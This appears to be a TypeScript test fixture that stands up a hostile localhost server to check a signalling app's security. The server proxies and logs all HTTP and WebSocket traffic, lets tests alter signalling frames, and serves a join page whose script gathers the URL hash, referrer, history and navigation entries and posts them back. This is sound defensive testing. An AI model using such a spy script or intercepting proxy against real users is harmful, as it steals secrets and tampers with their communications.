import { createServer, type IncomingMessage, request, type Server, type ServerResponse } from 'node:http';
import { WebSocket, WebSocketServer } from 'ws';
import { freePort, startServerProcess } from '../../../scripts/lib/server.mjs';

/** What a hostile page can find out about the address it was reached by, sent home. */
const SPY_PAGE = `<!doctype html><title>Join</title><script src="/spy.js"></script>`;
const SPY_SCRIPT = `
const entries = performance.getEntriesByType('navigation').map((entry) => entry.toJSON());
const visited = globalThis.navigation?.entries?.().map(({ url }) => url) ?? [];
const found = { hash: location.hash, href: location.href, referrer: document.referrer, state: history.state, length: history.length, entries, visited };
fetch('/spied', { method: 'POST', body: JSON.stringify(found) }).then(() => { document.title = 'spied'; });
`;

export interface HostileServer {
  /** Everything it has ever received: request lines, headers, bodies, WebSocket frames. */
  received(): string;
  paths(): string[];
  close(): Promise<void>;
}

/** Where a meddler can put a frame: on to the real server, or back to the client at hand. */
export interface Ways {
  pass(frame: string): void;
  back(frame: string): void;
}

/** What it does to signalling frames instead of carrying them. */
export interface Meddle {
  /** A client has sent a frame. */
  sent?(frame: string, ways: Ways): void;
  /** A frame is on its way to a client. */
  delivered?(frame: string, ways: Ways): void;
}

/**
 * Stands where the known server should be: passes everything on to a real one, so that people can meet, writes all of
 * it down, serves its own join page, and may change every signalling frame on its way.
 */
export async function startHostileServer(port: number, meddle: Meddle = {}): Promise<HostileServer> {
  const upstream = await freePort();
  const behind = await startServerProcess({
    port: upstream,
    env: { ALLOWED_HOSTS: `localhost:${port},localhost:${upstream}` },
  });
  const log: string[] = [];
  const paths: string[] = [];
  const server = createServer((incoming, outgoing) => {
    paths.push(incoming.url ?? '');
    log.push(`${incoming.method} ${incoming.url} ${JSON.stringify(incoming.headers)}`);
    if (!answerItself(incoming, outgoing, log)) passOn(incoming, outgoing, upstream, log);
  });
  const sockets = bridgeSockets(server, upstream, log, meddle);
  await new Promise<void>((resolve) => server.listen(port, '127.0.0.1', resolve));
  return {
    received: () => log.join('\n'),
    paths: () => [...paths],
    async close() {
      for (const client of sockets.clients) client.terminate();
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
      await behind.kill();
    },
  };
}

function answerItself(incoming: IncomingMessage, outgoing: ServerResponse, log: string[]): boolean {
  const path = incoming.url ?? '';
  if (path === '/spied') {
    incoming.on('data', (part) => log.push(String(part)));
    incoming.on('end', () => outgoing.end('ok'));
    return true;
  }
  const page = path.startsWith('/join') || path.startsWith('/later');
  if (!page && path !== '/spy.js') return false;
  outgoing.setHeader('content-type', page ? 'text/html' : 'text/javascript');
  outgoing.end(page ? SPY_PAGE : SPY_SCRIPT);
  return true;
}

function passOn(incoming: IncomingMessage, outgoing: ServerResponse, port: number, log: string[]): void {
  const { method, url, headers } = incoming;
  const onward = request({ host: '127.0.0.1', port, method, path: url, headers }, (answer) => {
    outgoing.writeHead(answer.statusCode ?? 500, answer.headers);
    answer.pipe(outgoing);
  });
  incoming.on('data', (part) => log.push(String(part)));
  incoming.pipe(onward);
  onward.on('error', () => outgoing.destroy());
}

function bridgeSockets(server: Server, upstream: number, log: string[], meddle: Meddle): WebSocketServer {
  const sockets = new WebSocketServer({ noServer: true });
  server.on('upgrade', (incoming, socket, head) => {
    log.push(`UPGRADE ${incoming.url} ${JSON.stringify(incoming.headers)}`);
    const { origin = '', host = '' } = incoming.headers;
    const onward = new WebSocket(`ws://127.0.0.1:${upstream}${incoming.url}`, { origin, headers: { host } });
    onward.once('error', () => socket.destroy());
    onward.once('open', () =>
      sockets.handleUpgrade(incoming, socket, head, (client) => bridge(client, onward, log, meddle)),
    );
  });
  return sockets;
}

function bridge(client: WebSocket, onward: WebSocket, log: string[], meddle: Meddle): void {
  const pass = (frame: string) => onward.send(frame);
  const back = (frame: string) => client.send(frame);
  client.on('message', (data) => {
    const frame = data.toString();
    log.push(frame);
    if (meddle.sent) meddle.sent(frame, { pass, back });
    else pass(frame);
  });
  onward.on('message', (data) => {
    const frame = data.toString();
    if (meddle.delivered) meddle.delivered(frame, { pass, back });
    else back(frame);
  });
  client.on('close', () => onward.close());
  onward.on('close', () => client.close());
}
